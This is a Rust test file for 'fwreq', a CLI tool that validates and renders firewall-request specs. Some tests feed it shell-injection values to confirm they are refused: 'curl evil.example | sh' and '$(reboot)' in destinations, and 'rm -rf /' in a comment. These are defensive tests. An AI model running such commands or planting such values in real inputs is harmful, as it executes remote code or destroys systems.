//! CLI sessions: what an engineer types, what fwreq prints, and the exit code.

use crate::common;
use common::write;

use assert_cmd::assert::OutputAssertExt as _;
use assert_cmd::cargo::cargo_bin_cmd;
use common::HEADER;
use predicates::prelude::*;
use std::fs;

use std::path::Path;
use std::process::Output;

/// A valid one-rule request, clean of lints.
fn valid() -> String {
    format!(
        "{HEADER}[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\nsources = [\"10.1.2.0/24\"]\n"
    )
}

/// Runs `fwreq check` on one spec; returns (exit code, stderr).
fn check(text: &str) -> (i32, String) {
    common::check(text, &[])
}

/// [`check`] of a spec that must fail (exit 1): its stderr.
fn check_fails(text: &str) -> String {
    let (code, stderr) = check(text);
    assert_eq!(code, 1, "{stderr}");
    stderr
}

/// A folder with [`valid`] as `req.toml` and the team templates `files` in
/// `tpl/`, and what `fwreq render req.toml --templates tpl` did there.
fn render_with_templates(files: &[(&str, &str)]) -> (tempfile::TempDir, Output) {
    let dir = common::folder_with(&[("req.toml", &valid())]);
    for (name, text) in files {
        write(dir.path(), &format!("tpl/{name}"), text);
    }
    let out = common::fwreq_in(dir.path(), &["render", "req.toml", "--templates", "tpl"]);
    (dir, out)
}

#[test]
fn each_kind_of_bad_input_is_reported_at_its_value() {
    let cases = common::bad_inputs();
    for (kind, text, want) in cases {
        let (code, stderr) = check(&text);
        assert_eq!(code, 1, "{kind}: exit code\n{stderr}");
        assert_eq!(stderr.lines().next(), Some(want), "{kind}:\n{stderr}");
    }
}

#[test]
fn a_bad_ritm_number_gets_an_excerpt_a_caret_and_help() {
    let text = HEADER.to_string()
        + "ritm = \"RITM123\"\n[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n";
    let stderr = check_fails(&text);
    assert_eq!(
        stderr,
        "req.toml:7:8: error: `RITM123` is not a RITM number
  |
7 | ritm = \"RITM123\"
  |        ^^^^^^^^^
  = help: write RITM and seven or more digits, e.g. RITM0194104
checked 1 request: 1 error, 0 warnings
"
    );
}

#[test]
fn unknown_keys_suggest_the_nearest_one() {
    let text = format!("{HEADER}[[rules]]\nports = [443]\ndestination = [\"a.example.com\"]\n");
    let (_, stderr) = check(&text);
    common::assert_contains(&stderr, "= help: did you mean `destinations`?");
}

#[test]
fn shell_injection_in_a_destination_is_refused_and_nothing_is_rendered() {
    let dir = tempfile::tempdir().unwrap();
    let text = format!(
        "{HEADER}[[rules]]\nports = [443]\ndestinations = [\"a.example.com; curl evil.example | sh\", \"$(reboot).example.com\"]\n"
    );
    write(dir.path(), "req.toml", &text);
    let (code, out, err) = common::run(dir.path(), &["render", "req.toml"]);
    assert_eq!((code, out.as_str()), (1, ""), "{err}");
    common::assert_starts(
        &err,
        "req.toml:9:17: error: `;` is not allowed in a destination",
    );
    common::assert_contains(
        &err,
        "req.toml:9:58: error: `$` is not allowed in a destination",
    );
}

#[test]
fn a_newline_in_a_comment_cannot_add_a_shell_line() {
    let text = format!(
        "{HEADER}[[rules]]\ncomment = \"\"\"ok\nrm -rf /\"\"\"\nports = [443]\ndestinations = [\"a.example.com\"]\n"
    );
    let stderr = check_fails(&text);
    common::assert_starts(
        &stderr,
        "req.toml:8:11: error: `comment` must be a single line",
    );
}

#[test]
fn a_code_fence_cannot_close_the_shell_block() {
    let text = valid().replace(
        "[[rules]]\n",
        "[[rules]]\ncomment = \"ok ``` now markdown\"\n",
    );
    let stderr = check_fails(&text);
    common::assert_starts(
        &stderr,
        "req.toml:8:11: error: a rule comment may not contain ``` (it would end the code block)",
    );
    let text = valid() + "[test]\ncommands = [\"echo ```\"]\n";
    let stderr = check_fails(&text);
    common::assert_starts(
        &stderr,
        "req.toml:12:13: error: a test command may not contain ```",
    );
}

#[test]
fn every_file_is_checked_even_after_a_bad_one() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join("nested")).unwrap();
    write(dir.path(), "a.toml", "title = \n");
    write(dir.path(), "b.toml", &valid());
    write(
        &dir.path().join("nested"),
        "c.toml",
        &valid().replace("443", "0"),
    );
    write(dir.path(), "notes.txt", "not a request");
    let (code, _, err) = common::run(dir.path(), &["check", "."]);
    assert_eq!(code, 1, "{err}");
    common::assert_contains(&err, "./a.toml:1:9: error:");
    common::assert_contains(
        &err,
        "./nested/c.toml:8:10: error: port 0 is not a real port",
    );
    common::assert_ends(&err, "checked 3 requests: 2 errors, 0 warnings\n");
}

#[test]
fn other_toml_files_are_named_as_not_requests() {
    let stderr = check_fails("[package]\nname = \"x\"\n");
    common::assert_starts(
        &stderr,
        "req.toml:1:1: error: not a request spec: it has none of `title`, `project`, `rules`",
    );
}

#[test]
fn empty_and_non_utf8_files_get_an_error_not_a_panic() {
    let dir = common::folder_with(&[("empty.toml", "")]);
    fs::write(dir.path().join("binary.toml"), b"title = \"\xff\"\n").unwrap();
    cargo_bin_cmd!("fwreq")
        .current_dir(dir.path())
        .args(["check", "empty.toml", "binary.toml"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "empty.toml:1:1: error: the file is empty",
        ))
        .stderr(predicate::str::contains(
            "binary.toml:1:10: error: the file is not UTF-8 text\n  |\n1 | title = \"\u{fffd}\"\n  |          ^\n",
        ));
    // For tools, the span is the one character shown in place of the bytes.
    let out = cargo_bin_cmd!("fwreq")
        .current_dir(dir.path())
        .args(["check", "--format", "json", "binary.toml"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json[0]["column"], 10);
    assert_eq!(json[0]["end"], serde_json::json!({"line": 1, "column": 11}));
}

#[test]
fn check_of_a_clean_request_prints_only_the_summary() {
    let dir = common::folder_with(&[("req.toml", &valid())]);
    cargo_bin_cmd!("fwreq")
        .current_dir(dir.path())
        .args(["check", "req.toml"])
        .assert()
        .success()
        .stdout("")
        .stderr("checked 1 request: 0 errors, 0 warnings\n");
}

#[test]
fn a_missing_file_is_an_io_error_with_exit_2() {
    for (command, said) in [
        (
            "check",
            "fwreq: error: does-not-exist.toml: no such file or directory",
        ),
        ("render", "fwreq: error: cannot read does-not-exist.toml"),
    ] {
        let (code, _, err) = common::run(Path::new("."), &[command, "does-not-exist.toml"]);
        assert_eq!(code, 2, "{command}: {err}");
        common::assert_starts(&err, said);
    }
}

#[test]
fn usage_errors_exit_2() {
    cargo_bin_cmd!("fwreq").arg("render").assert().code(2);
    cargo_bin_cmd!("fwreq").arg("frobnicate").assert().code(2);
}

#[test]
fn several_files_are_separated_by_a_rule_line() {
    let dir = common::folder_with(&[
        (
            "a.toml",
            &valid().replace("title = \"t\"", "title = \"First\""),
        ),
        (
            "b.toml",
            &valid().replace("title = \"t\"", "title = \"Second\""),
        ),
    ]);
    let out = cargo_bin_cmd!("fwreq")
        .current_dir(dir.path())
        .args(["render", "a.toml", "b.toml"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let stdout = String::from_utf8(out.stdout).unwrap();
    let bodies: Vec<&str> = stdout.split("\n---\n").collect();
    assert_eq!(bodies.len(), 2);
    assert!(bodies[0].starts_with("# First\n"));
    assert!(bodies[1].starts_with("# Second\n"));
}

#[test]
fn output_file_is_written_whole_and_never_clobbered_without_force() {
    let dir = common::folder_with(&[("req.toml", &valid())]);
    let run = |args: &[&str]| {
        cargo_bin_cmd!("fwreq")
            .current_dir(dir.path())
            .args(args)
            .assert()
    };

    run(&["render", "req.toml", "-o", "ticket.md"])
        .success()
        .stdout("");
    let first = fs::read_to_string(dir.path().join("ticket.md")).unwrap();
    assert!(first.starts_with("# t\n"));

    fs::write(dir.path().join("ticket.md"), "my notes").unwrap();
    run(&["render", "req.toml", "-o", "ticket.md"])
        .code(2)
        .stderr(predicate::str::contains(
            "ticket.md already exists; add --force to replace it",
        ));
    assert_eq!(
        fs::read_to_string(dir.path().join("ticket.md")).unwrap(),
        "my notes"
    );

    run(&["render", "req.toml", "-o", "ticket.md", "--force"]).success();
    assert_eq!(
        fs::read_to_string(dir.path().join("ticket.md")).unwrap(),
        first
    );

    // A bad spec leaves no file behind.
    write(dir.path(), "bad.toml", &valid().replace("443", "70000"));
    run(&["render", "bad.toml", "-o", "bad.md"]).code(1);
    assert!(!dir.path().join("bad.md").exists());
    let mut names: Vec<_> = fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        ["bad.toml", "req.toml", "ticket.md"],
        "no temporary file is left"
    );
}

#[test]
fn team_templates_override_the_embedded_ones_file_by_file() {
    let (_dir, out) = render_with_templates(&[(
        "details.md.j2",
        "## Checks\n{% for rule in checks %}{% for d in rule.destinations %}{% for c in d.checks %}- `{{ c.command }}`\n{% endfor %}{% endfor %}{% endfor %}",
    )]);
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(out.status.success());
    common::assert_contains(
        &stdout,
        "## Checks\n- `curl -vv telnet://a.example.com:443`\n",
    );
    // The embedded ticket and key points are still used.
    assert!(stdout.starts_with("# t\n"));
    assert!(stdout.contains("## Key points about the firewall rule\n"));
}

/// A team template whose loops would run 10^10 times stops with an error
/// naming the template (it used to hang while its output filled the memory);
/// the default templates still render a request of 10,000 destinations.
#[test]
fn an_error_in_an_included_template_names_each_level() {
    let (_dir, out) = render_with_templates(&[
        ("ticket.md.j2", "{% include \"inner.md.j2\" %}\n"),
        ("inner.md.j2", "a\n{{ \"a\" + 1 }}\n"),
    ]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    common::assert_starts(
        &stderr,
        "fwreq: error: template error: could not render include: error in \"inner.md.j2\" (in ticket.md.j2:1)\n  caused by: invalid operation: tried to use + operator on unsupported types string and number (in inner.md.j2:2)\n",
    );
    // The excerpt is the innermost template's.
    common::assert_contains(&stderr, "   2 > {{ \"a\" + 1 }}\n");
}

#[test]
fn a_runaway_template_stops_with_an_error() {
    let started = std::time::Instant::now();
    let (dir, out) = render_with_templates(&[(
        "ticket.md.j2",
        "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}\n",
    )]);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    let stderr = String::from_utf8(out.stderr).unwrap();
    common::assert_starts(
        &stderr,
        "fwreq: error: template error: engine ran out of fuel (in ticket.md.j2:1)\n  help: a render may take 4000000 steps and make 256 MB of text; look for a loop that runs too long or a value that grows in the templates\n",
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(120));
    let many: Vec<String> = (0..10_000)
        .map(|i| format!("\"h{i}.example.com\""))
        .collect();
    let big = valid().replace(
        "destinations = [\"a.example.com\"]",
        &format!("destinations = [{}]", many.join(", ")),
    );
    assert_ne!(big, valid());
    write(dir.path(), "big.toml", &big);
    let (code, out, err) = common::run(dir.path(), &["render", "big.toml"]);
    assert_eq!(code, 0, "{err}");
    common::assert_contains(&out, "h9999.example.com");
}

#[test]
fn a_missing_templates_directory_is_an_error_not_a_silent_fallback() {
    let dir = common::folder_with(&[("req.toml", &valid())]);
    cargo_bin_cmd!("fwreq")
        .current_dir(dir.path())
        .args(["render", "req.toml", "--templates", "tempaltes"])
        .assert()
        .code(2)
        .stdout("")
        .stderr("fwreq: error: --templates tempaltes: no such directory\n");
}

#[test]
fn a_broken_team_template_names_the_template_and_line() {
    let (_dir, out) =
        render_with_templates(&[("details.md.j2", "line one\n{{ no_such_value }}\n")]);
    out.assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains("details.md.j2:2"))
        .stderr(predicate::str::contains("no_such_value"));
}

#[test]
fn rendering_is_deterministic() {
    let examples: Vec<String> = std::fs::read_dir("requests")
        .unwrap()
        .map(|e| e.unwrap().path().display().to_string())
        .filter(|p| p.ends_with(".toml") && !p.ends_with("fwreq.toml"))
        .collect();
    assert!(examples.len() >= 3, "{examples:?}");
    for format in ["markdown", "html", "servicenow", "json"] {
        let run = || {
            let out = cargo_bin_cmd!("fwreq")
                .args(["render", "--format", format])
                .args(if format == "html" {
                    &examples[..1]
                } else {
                    &examples[..]
                })
                .output()
                .unwrap();
            assert_eq!(out.status.code(), Some(0), "{format}: {out:?}");
            assert!(out.stdout.len() > 1000, "{format}: {out:?}");
            out.stdout
        };
        assert_eq!(run(), run(), "{format}");
    }
}

#[test]
fn help_and_version_speak_to_a_network_engineer() {
    cargo_bin_cmd!("fwreq")
        .arg("--version")
        .assert()
        .success()
        .stdout(format!(
            "fwreq {}\nPublic Suffix List of {} (data/refresh-public-suffix-list.sh refreshes it)\n\
             IDNA2008 tables of Unicode {} (data/refresh-idna-tables.sh refreshes them)\n",
            env!("CARGO_PKG_VERSION"),
            env!("FWREQ_PSL_DATE"),
            env!("FWREQ_IDNA_UNICODE")
        ));
    cargo_bin_cmd!("fwreq")
        .arg("-V")
        .assert()
        .success()
        .stdout(format!("fwreq {}\n", env!("CARGO_PKG_VERSION")));
    cargo_bin_cmd!("fwreq")
        .arg("help")
        .assert()
        .success()
        .stdout(predicate::str::contains("render"))
        .stdout(predicate::str::contains("check"))
        .stdout(predicate::str::contains("Exit codes"));
    cargo_bin_cmd!("fwreq")
        .args(["render", "--help"])
        .assert()
        .success()
        .stdout(predicate::str::contains("--output <PATH>"))
        .stdout(predicate::str::contains("--templates <DIR>"));
}

#[test]
fn a_url_a_host_with_a_port_and_a_final_dot_say_what_to_write() {
    let text = format!(
        "{HEADER}[[rules]]\nports = [443]\ndestinations = [\n  \"https://registry.example.com/v2/\",\n  \"registry.example.com:8443\",\n  \"[2001:db8::1]:443\",\n  \"example.com.\",\n]\n"
    );
    let stderr = check_fails(&text);
    assert_eq!(
        stderr,
        r#"req.toml:10:3: error: `https://registry.example.com/v2/` is a URL; a destination is a hostname or address
   |
10 |   "https://registry.example.com/v2/",
   |   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
  = help: write the host alone: "registry.example.com" (and 443, the https port, in `ports`)
req.toml:11:3: error: `registry.example.com:8443` has a port; the port belongs in `ports`
   |
11 |   "registry.example.com:8443",
   |   ^^^^^^^^^^^^^^^^^^^^^^^^^^^
  = help: write "registry.example.com" in `destinations` and 8443 in `ports`
req.toml:12:3: error: `[2001:db8::1]:443` has a port; the port belongs in `ports`
   |
12 |   "[2001:db8::1]:443",
   |   ^^^^^^^^^^^^^^^^^^^
  = help: write "2001:db8::1" in `destinations` and 443 in `ports`
req.toml:13:3: error: `example.com.` ends with a dot (the DNS root)
   |
13 |   "example.com.",
   |   ^^^^^^^^^^^^^^
  = help: write "example.com": names are read as fully qualified already
checked 1 request: 4 errors, 0 warnings
"#
    );
}

/// The located lines of `check`'s output and their helps.
fn located(stderr: &str) -> Vec<&str> {
    stderr
        .lines()
        .filter(|l| l.starts_with("req.toml:") || l.starts_with("  = help"))
        .collect()
}

#[test]
fn every_type_and_key_error_of_a_file_is_reported_in_one_run() {
    let text = "title = \"t\"\nproject = 5\nrequest = \"r\"\nreason = \"r\"\naffected_apps = \"a\"\njustification = \"j\"\ncolour = \"red\"\n\n[test]\nstep = [\"x\"]\n\n[[rules]]\nports = \"443\"\ndestination = [\"a.example.com\"]\nprotocol = \"tcpp\"\n";
    let stderr = check_fails(text);
    assert_eq!(
        located(&stderr),
        [
            "req.toml:2:11: error: invalid type: integer `5`, expected a string",
            "req.toml:5:17: error: invalid type: string \"a\", expected a sequence",
            "  = help: `affected_apps` takes a list, even of one: write affected_apps = [\"a\"]",
            "req.toml:7:1: error: unknown field `colour`, expected one of `title`, `project`, `request`, `reason`, `affected_apps`, `justification`, `change`, `requested_by`, `ritm`, `req`, `submitted`, `status`, `expires`, `rules`, `test`, `allow`, `fields`",
            "req.toml:10:1: error: unknown field `step`, expected one of `steps`, `host`, `commands`",
            "  = help: did you mean `steps`?",
            "req.toml:13:9: error: invalid type: string \"443\", expected a sequence",
            "  = help: `ports` takes a list, even of one: write ports = [\"443\"]",
            "req.toml:14:1: error: unknown field `destination`, expected one of `comment`, `protocol`, `ports`, `action`, `sources`, `destinations`, `fields`",
            "  = help: did you mean `destinations`?",
            "req.toml:15:12: error: unknown variant `tcpp`, expected one of `tcp`, `udp`, `icmp`",
            "  = help: did you mean `tcp`?",
        ]
    );
    common::assert_ends(&stderr, "checked 1 request: 7 errors, 0 warnings\n");
    // The bracket hints are for `[rules]` and `[[test]]` only: a list or a
    // table elsewhere gets none.
    let stderr = check_fails(
        "title = [\"t\"]\nproject = \"p\"\nrequest = \"r\"\nreason = \"r\"\naffected_apps = { a = \"b\" }\njustification = \"j\"\n[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n",
    );
    assert_eq!(
        located(&stderr),
        [
            "req.toml:1:9: error: invalid type: sequence, expected a string",
            "req.toml:5:17: error: invalid type: map, expected a sequence",
        ]
    );
    // A port and a destination of the wrong type say what they take.
    let stderr = check_fails(&format!(
        "{HEADER}[[rules]]\nports = [true]\ndestinations = [1]\n"
    ));
    let first: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("req.toml:"))
        .collect();
    assert_eq!(
        first,
        [
            "req.toml:8:10: error: invalid type: boolean `true`, expected a port number such as 443 or a range such as \"8000-8100\"",
            "req.toml:9:17: error: invalid type: integer `1`, expected a hostname, IP address or CIDR string, or a table { host = \"...\", probe = \"...\" }",
        ]
    );
}

/// A folder with one valid request expiring on 2026-12-01 and one with a typo.
fn valid_and_invalid() -> tempfile::TempDir {
    common::folder_with(&[
        (
            "a.toml",
            &valid().replace("title = \"t\"", "title = \"t\"\nexpires = 2026-12-01"),
        ),
        ("b.toml", &valid().replace("ports", "prts")),
    ])
}

#[test]
fn expiring_and_list_status_show_an_invalid_file_and_exit_1() {
    let dir = valid_and_invalid();
    let error = "./b.toml:8:1: error: unknown field `prts`, expected one of `comment`, `protocol`, `ports`, `action`, `sources`, `destinations`, `fields`";
    let (code, out, err) = common::run(dir.path(), &["expiring", ".", "--today", "2026-11-26"]);
    assert_eq!(code, 1);
    assert_eq!(
        out,
        format!(
            "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES     RULES  FLOWS  WHEN\n./a.toml  t{}  -     -    draft   -          2026-12-01  1      1      in 5 days\n./b.toml  (invalid) {error}  -     -    -       -          -           0      0\n",
            " ".repeat(error.len() + 5),
            " ".repeat(error.len() + 9),
        )
    );
    assert_eq!(
        err,
        common::renew_or_remove("./a.toml")
            + "0 requests expired, 1 expiring within 30 days, 1 invalid file (as of 2026-11-26)\n"
    );
    let (code, out, _) = common::run(dir.path(), &["list", ".", "--status", "approved"]);
    let table = format!(
        "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES  RULES  FLOWS\n./b.toml  (invalid) {error}  -     -    -       -          -        0      0\n",
        " ".repeat(error.len() + 5)
    );
    assert_eq!((code, out), (1, table));
}

#[test]
fn within_takes_days_and_weeks_and_says_what_it_takes() {
    let dir = valid_and_invalid();
    fs::remove_file(dir.path().join("b.toml")).unwrap();
    for (within, listed) in [
        ("30", true),
        ("30d", true),
        ("4w", true),
        ("4", false),
        ("0w", false),
    ] {
        let out = common::fwreq_in(
            dir.path(),
            &["expiring", ".", "--today", "2026-11-26", "--within", within],
        );
        assert_eq!(out.status.code(), Some(0), "{within}");
        assert_eq!(
            common::stdout(&out).contains("./a.toml"),
            listed,
            "{within}"
        );
    }
    // `expires` is the last day open: on it the request is not yet past;
    // the day after, it is, and that alone exits 1.
    for (today, when, summary, code) in [
        (
            "2026-11-30",
            "in 1 day",
            "0 requests expired, 1 expiring",
            0,
        ),
        ("2026-12-01", "today", "0 requests expired, 1 expiring", 0),
        (
            "2026-12-02",
            "expired 1 day ago",
            "1 request expired, 0 expiring",
            1,
        ),
    ] {
        let out = common::fwreq_in(dir.path(), &["expiring", ".", "--today", today]);
        assert_eq!(out.status.code(), Some(code), "{today}");
        assert!(
            common::stdout(&out).ends_with(&format!("  1      1      {when}\n")),
            "{today}: {}",
            common::stdout(&out)
        );
        assert!(
            common::stderr(&out)
                .ends_with(&format!("\n{summary} within 30 days (as of {today})\n")),
            "{today}: {}",
            common::stderr(&out)
        );
    }
    let out = common::fwreq_in(dir.path(), &["expiring", "--within", "3x"]);
    assert_eq!(out.status.code(), Some(2));
    common::assert_starts(
        &common::stderr(&out),
        "error: invalid value '3x' for '--within <DAYS>': `3x` is not a window: write days (30 or 30d) or weeks (4w)\n",
    );
}

#[test]
fn a_reader_that_stops_early_is_not_an_error_but_a_full_disk_is() {
    // `fwreq render EXAMPLE > stdout`: its exit code and stderr.
    let render_to = |stdout: std::process::Stdio| {
        let out = std::process::Command::new(assert_cmd::cargo::cargo_bin!("fwreq"))
            .args(["render", "requests/avilla-calico-registry.toml"])
            .stdout(stdout)
            .output()
            .unwrap();
        (out.status.code(), common::stderr(&out))
    };
    // `fwreq render ... | head -0`: the pipe's reader is gone before fwreq writes.
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    assert_eq!(render_to(writer.into()), (Some(0), String::new()));
    // A write that fails for any other reason is reported, exit 2.
    let full = fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    assert_eq!(
        render_to(full.into()),
        (
            Some(2),
            "fwreq: error: No space left on device (os error 28)\n".to_string()
        )
    );
}

#[test]
fn one_output_file_and_one_html_page_take_one_request() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out.md");
    let output = out.to_str().unwrap();
    let two = [
        "requests/avilla-calico-registry.toml",
        "requests/albion-plant-time-and-logs.toml",
    ];
    let here = Path::new(".");
    let (code, _, err) = common::run(here, &["render", two[0], two[1], "-o", output]);
    assert_eq!(
        (code, err.as_str()),
        (2, "fwreq: error: --output takes one request file, got 2\n")
    );
    assert!(!out.exists());
    let refused = common::run(here, &["render", two[0], two[1], "--format", "html"]);
    assert_eq!(
        refused,
        (
            2,
            String::new(),
            "fwreq: error: --format html makes one page per request; give one file, or use `fwreq site` for many\n".to_string()
        )
    );
    // One request: the file and the page are made.
    let (code, _, err) = common::run(here, &["render", two[0], "--format", "html", "-o", output]);
    assert_eq!(code, 0, "{err}");
    assert!(
        fs::read_to_string(&out)
            .unwrap()
            .starts_with("<!DOCTYPE html>")
    );
}
